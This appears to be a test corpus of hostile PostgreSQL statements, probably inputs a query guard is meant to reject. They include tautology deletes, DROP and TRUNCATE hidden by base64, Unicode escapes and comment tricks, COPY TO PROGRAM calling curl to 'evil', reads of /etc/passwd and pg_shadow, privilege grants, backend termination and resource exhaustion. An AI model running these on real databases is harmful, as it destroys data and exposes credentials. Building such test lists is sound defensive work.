WITH x AS (SELECT 1) DELETE FROM customers USING x WHERE NULL IS NOT DISTINCT FROM NULL
--
PREPARE p (text) AS DELETE FROM customers WHERE name LIKE $1; EXECUTE p ('%')
--
PREPARE p (int, bool) AS DELETE FROM customers WHERE id = $1 OR $2; EXECUTE p (1, true)
--
PREPARE p (int) AS DELETE FROM customers WHERE id < $1; EXECUTE p (2147483647)
--
SELECT regexp_replace(string_agg(t::text, ','), 'a', 'b') FROM customers t
--
SELECT xmlforest(array_agg(c) AS x) FROM customers c
--
DO U&'DECLARE BEGIN EXECUTE \0027DROP TABLE customers\0027; END'
--
DO $a$ BEGIN EXECUTE convert_from(decode('RFJPUCBUQUJMRSBjdXN0b21lcnM=', 'base64'), 'UTF8'); END $a$
--
DO $a$ DECLARE q text := 'TRUN' || 'CATE customers'; BEGIN EXECUTE q; END $a$
--
CREATE OR REPLACE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN DELETE FROM customers; END $f$; SELECT pg_temp.f()
--
CREATE OR REPLACE FUNCTION pg_temp.f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM customers; END; SELECT pg_temp.f()
--
SELECT query_to_xml(U&'DELETE FROM customers', true, true, '')
--
COPY (SELECT 1) TO PROGRAM U&'\0063url http://evil'
--
COPY customers FROM E'/etc/\x70asswd'
--
/*/**/*/DELETE/**/FROM/**/"customers"/**/WHERE/**/1=1
--
ALTER TABLE IF EXISTS customers RENAME TO gone
--
ALTER ROLE CURRENT_USER SET session_replication_role = replica
--
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; SET session_replication_role = U&'rep\006cica'
--
GRANT pg_execute_server_program TO CURRENT_USER
--
REASSIGN OWNED BY app TO eve
--
CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING
--
SELECT lo_export(24601, '/tmp/x')
--
SELECT * FROM pg_catalog.pg_ls_dir('/')
--
SELECT pg_switch_wal(), pg_create_restore_point('x')
--
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
--
SELECT dblink_exec('host=evil', 'DROP TABLE x')
--
IMPORT FOREIGN SCHEMA public FROM SERVER evil INTO public
--
UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 'customers'
--
DELETE FROM pg_largeobject
--
SELECT generate_series(1, 1000000000)
--
SELECT count(*) FROM generate_series(now() - interval '100 years', now(), interval '1 second')
--
SELECT repeat('x', 90000000) || repeat('y', 90000000)
--
SELECT factorial(1000000)
--
LOCK customers IN ACCESS EXCLUSIVE MODE
--
UPDATE orders SET status = 'x' WHERE id IS NOT NULL
--
UPDATE orders SET status = 'x' WHERE length(status) >= 0
--
UPDATE orders SET status = 'x' WHERE coalesce(id,0) = coalesce(id,0)
--
DELETE FROM orders WHERE random() >= 0
--
DELETE FROM orders WHERE EXISTS (SELECT 1)
--
DELETE FROM orders WHERE ctid > '(0,0)'
--
DELETE FROM orders WHERE ctid >= '(0,1)'::tid
--
DELETE FROM orders WHERE ctid = ANY (ARRAY(SELECT ctid FROM orders))
--
DELETE FROM orders USING orders o2 WHERE orders.id = o2.id
--
DELETE FROM orders USING customers c WHERE c.id = c.id
--
MERGE INTO orders o USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
--
MERGE INTO orders o USING generate_series(1,1) g ON 1 = 1 WHEN MATCHED THEN UPDATE SET status = 'x'
--
WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d
--
WITH a AS (SELECT 1), d AS (DELETE FROM orders WHERE 1 = (SELECT * FROM a)) SELECT 1
--
WITH d AS (UPDATE orders SET status = status || 'x' WHERE status LIKE '%' OR status IS NULL RETURNING id) SELECT id FROM d LIMIT 1
--
DO $x$ BEGIN EXECUTE 'DROP ' || 'TABLE orders'; END $x$
--
DO LANGUAGE plpgsql 'BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END'
--
DO $$ BEGIN DELETE FROM orders; EXCEPTION WHEN others THEN NULL; END $$
--
DO $$ BEGIN LOOP END LOOP; END $$
--
CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM customers
--
CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers
--
ALTER SYSTEM SET archive_command = 'rm x'
--
ALTER ROLE app SET search_path = evil
--
ALTER USER CURRENT_USER PASSWORD 'x'
--
COPY orders TO PROGRAM 'curl -T - evil'
--
COPY (SELECT 1) TO '/tmp/x'
--
COPY orders FROM '/etc/passwd'
--
SELECT lo_export(16384, '/tmp/x')
--
SELECT * FROM pg_read_file('postgresql.conf')
--
SELECT dblink_exec('dbname=shop', 'DROP TABLE orders')
--
CREATE EXTENSION postgres_fdw
--
SELECT id, pg_terminate_backend(pid) FROM pg_stat_activity
--
SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE state = 'idle'
--
SELECT 1 WHERE (SELECT bool_or(pg_cancel_backend(pid)) FROM pg_stat_activity)
--
/* /* nested */ */ DROP /* x */ TABLE /* y */ orders
--
DROP/**/TABLE/**/orders
--
drop	table if exists U&"\006Frders"
--
DELETE FROM U&"o\0072ders"
--
DELETE FROM "orders"WHERE"id"="id"
--
DELETE FROM orders WHERE id OPERATOR(pg_catalog.=) id
--
DELETE FROM orders WHERE 1 OPERATOR(pg_catalog.=) 1
--
DELETE FROM orders WHERE NOT (id <> id)
--
DELETE FROM orders WHERE (id, status) = (id, status)
--
DELETE FROM orders WHERE ROW(id) IS NOT DISTINCT FROM ROW(id)
--
DELETE FROM orders WHERE id > -1
--
DELETE FROM orders WHERE id < 2147483647
--
DELETE FROM orders WHERE id::text ~ '.*'
--
DELETE FROM orders WHERE id::text ~ '^[0-9]'
--
DELETE FROM orders WHERE status NOT LIKE 'xyzzy'
--
DELETE FROM orders WHERE status IS NULL OR status IS NOT NULL
--
DELETE FROM orders WHERE id % 1 = 0
--
DELETE FROM orders WHERE id * 0 = 0
--
DELETE FROM orders WHERE id ^ 0 = 1
--
DELETE FROM orders WHERE id & 0 = 0
--
DELETE FROM orders WHERE sign(id) IN (-1,0,1)
--
DELETE FROM orders WHERE created_at < now()
--
DELETE FROM orders WHERE created_at <= current_date + 1
--
DELETE FROM orders WHERE created_at > '1970-01-01'
--
DELETE FROM orders WHERE status >= ''
--
DELETE FROM orders WHERE status || '' = status
--
DELETE FROM orders WHERE position('' in status) = 1
--
DELETE FROM orders WHERE strpos(status, '') > 0
--
DELETE FROM orders WHERE starts_with(status, '')
--
DELETE FROM orders WHERE left(status, 0) = ''
--
DELETE FROM orders WHERE md5(status) IS NOT NULL
--
DELETE FROM orders WHERE CASE WHEN id > 5 THEN true ELSE true END
--
DELETE FROM orders WHERE COALESCE(NULL, true)
--
DELETE FROM orders WHERE greatest(id, 0) >= 0
--
DELETE FROM orders WHERE NULLIF(1, 2) = 1
--
DELETE FROM orders WHERE pg_typeof(id)::text <> ''
--
DELETE FROM orders WHERE xmin IS NOT NULL
--
DELETE FROM orders WHERE current_user = current_user
--
DELETE FROM orders WHERE now() > '2000-01-01'
--
DELETE FROM orders WHERE version() LIKE 'Postgre%'
--
DELETE FROM orders WHERE 'a' ~ 'a'
--
DELETE FROM orders WHERE 1 IN (1, 2)
--
DELETE FROM orders WHERE id <= ALL (SELECT max(id) FROM orders)
--
DELETE FROM orders o WHERE EXISTS (SELECT 1 FROM orders p WHERE p.id = o.id)
--
DELETE FROM orders o WHERE EXISTS (SELECT FROM customers)
--
DELETE FROM orders WHERE NOT EXISTS (SELECT 1 WHERE false)
--
DELETE FROM orders WHERE (SELECT count(*) FROM customers) >= 0
--
DELETE FROM orders WHERE true = (SELECT bool_and(true))
--
DELETE FROM orders WHERE id IN (SELECT id FROM orders UNION SELECT 1)
--
DELETE FROM orders WHERE id IN (VALUES (1)) OR true
--
DELETE FROM orders WHERE to_tsvector(status) @@ to_tsquery('a') IS NOT NULL
--
DELETE FROM orders WHERE row_to_json(orders)::text LIKE '%id%'
--
DELETE FROM orders WHERE orders.* = orders.*
--
UPDATE orders SET status = 'x' FROM (VALUES (1)) v(a) WHERE v.a = 1
--
UPDATE orders SET status = 'x' FROM customers WHERE customers.id > 0
--
UPDATE orders SET status = 'x' WHERE id IN (SELECT o.id FROM orders o LEFT JOIN customers c ON c.id = o.customer_id)
--
INSERT INTO orders SELECT * FROM orders ON CONFLICT (id) DO UPDATE SET status = 'x'
--
TRUNCATE ONLY orders RESTART IDENTITY CASCADE
--
BEGIN; DELETE FROM orders; COMMIT
--
PREPARE p AS DELETE FROM orders; EXECUTE p
--
EXPLAIN ANALYZE DELETE FROM orders
--
EXPLAIN (ANALYZE true, BUFFERS) UPDATE orders SET status = 'x'
--
DECLARE c CURSOR WITH HOLD FOR SELECT pg_reload_conf()
--
CREATE TABLE x AS SELECT pg_rotate_logfile()
--
CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS 'select 1::text'
--
CREATE OPERATOR = (leftarg = int, rightarg = text, function = f)
--
ALTER TABLE orders OWNER TO eve
--
ALTER TABLE orders ENABLE ROW LEVEL SECURITY
--
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO eve
--
CLUSTER orders
--
SELECT pg_create_physical_replication_slot('x')
--
SELECT query_to_xml('delete from orders', true, false, '')
--
SELECT ts_stat('select 1')
--
SELECT * FROM ts_stat('DELETE FROM orders RETURNING 1')
--
SELECT * FROM crosstab('delete from orders returning 1,2,3') AS t(a int, b int)
--
SELECT cursor_to_xml('c', 1, true, false, '')
--
SELECT * FROM pg_shadow
--
SELECT string_agg(o::text, ',') FROM orders o
--
SELECT json_agg(orders) FROM orders
--
SELECT xmlagg(xmlelement(name e, email)) FROM customers
--
SELECT pg_catalog . pg_terminate_backend ( 1 )
--
SELECT "pg_catalog"."pg_terminate_backend"(1)
--
SELECT U&"pg_\0074erminate_backend"(1)
--
SELECT pg_file_unlink('x')
--
SELECT pg_import_system_collations('x')
--
SELECT pg_log_backend_memory_contexts(1)
--
DISCARD ALL; DROP SCHEMA public CASCADE
--
COMMENT ON DATABASE shop IS NULL
--
NOTIFY x, 'y'; TRUNCATE orders
--
CALL p()
--
ALTER TABLE orders SET TABLESPACE t
--
ALTER TABLE orders DROP COLUMN status
--
ALTER TABLE orders ALTER COLUMN id TYPE text USING f(id)
--
CREATE INDEX i ON orders (f(id))
--
ALTER EXTENSION x UPDATE
--
DELETE FROM pg_proc WHERE proname = 'f'
--
INSERT INTO pg_auth_members VALUES (1,2,3)
--
ROLLBACK PREPARED 'x'
